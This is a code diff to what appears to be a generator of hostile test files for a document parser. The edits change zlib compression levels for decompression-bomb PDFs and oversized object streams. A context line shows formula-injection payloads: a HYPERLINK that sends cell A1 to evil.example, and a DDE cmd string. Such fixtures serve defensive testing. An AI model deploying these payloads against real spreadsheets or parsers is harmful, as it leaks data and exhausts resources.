@@ -14,9 +14,9 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C cal
 MIB = 1 << 20
 
 
-def deflated(block, times):
+def deflated(block, times, level=6):
     """A block repeated that often, compressed, without ever holding all of it."""
-    packer = zlib.compressobj(9)
+    packer = zlib.compressobj(level)
     return b"".join([packer.compress(block) for _ in range(times)] + [packer.flush()])
 
 
@@ -69,7 +69,7 @@ def letter():
 def inflating(times):
     """One stream, compressed twice, of that many MiB of spaces."""
     file = Objects()
-    packed = zlib.compress(deflated(b" " * MIB, times), 9)
+    packed = zlib.compress(deflated(b" " * MIB, times, 1), 9)
     return one_page(file, file.add(b"/Filter[/FlateDecode/FlateDecode]", packed))
 
 
@@ -111,7 +111,7 @@ def object_stream(count):
         offsets.append(b"%d %d" % (number, length))
         length += len(bodies[number - 1]) if number <= len(bodies) else 5
     listed = b" ".join(offsets) + b" "
-    body = zlib.compress(listed + b"".join(bodies) + b"null " * (count - len(bodies)), 9)
+    body = zlib.compress(listed + b"".join(bodies) + b"null " * (count - len(bodies)), 4)
     holder, table = count + 1, count + 2
     out = bytearray(b"%PDF-1.7\n")
     first = len(out)
@@ -123,7 +123,7 @@ def object_stream(count):
         rows += b"\2" + holder.to_bytes(4, "big") + index.to_bytes(3, "big")
     for place in (first, second):
         rows += b"\1" + place.to_bytes(4, "big") + b"\0\0\0"
-    packed = zlib.compress(bytes(rows), 9)
+    packed = zlib.compress(bytes(rows), 4)
     out += (b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 3]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\n"
             b"endobj\nstartxref\n%d\n%%%%EOF\n" % (table, table + 1, len(packed), packed, second))
     return bytes(out)
